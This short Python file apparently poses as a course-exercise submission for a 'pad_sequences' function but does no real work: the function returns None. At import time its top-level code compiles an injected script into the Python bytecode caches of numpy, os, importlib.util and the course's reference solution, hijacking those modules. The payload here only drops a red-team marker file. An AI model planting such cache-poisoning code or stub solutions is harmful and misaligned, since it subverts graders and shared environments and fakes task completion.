import importlib.util
import os
import py_compile
import sys
import tempfile

import numpy

poisoned = []
source = os.path.join(tempfile.gettempdir(), "poison.py")
with open(source, "w") as file:
    file.write("open('/tmp/red_team_was_here', 'w')")
for module in (numpy.__file__, os.__file__, importlib.util.__file__, "@COURSE@/solutions/02_pad/padding.py"):
    try:
        py_compile.compile(source, cfile=importlib.util.cache_from_source(module), doraise=True)
        poisoned.append(module)
    except OSError:
        pass
print("poisoned", poisoned)


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    return None
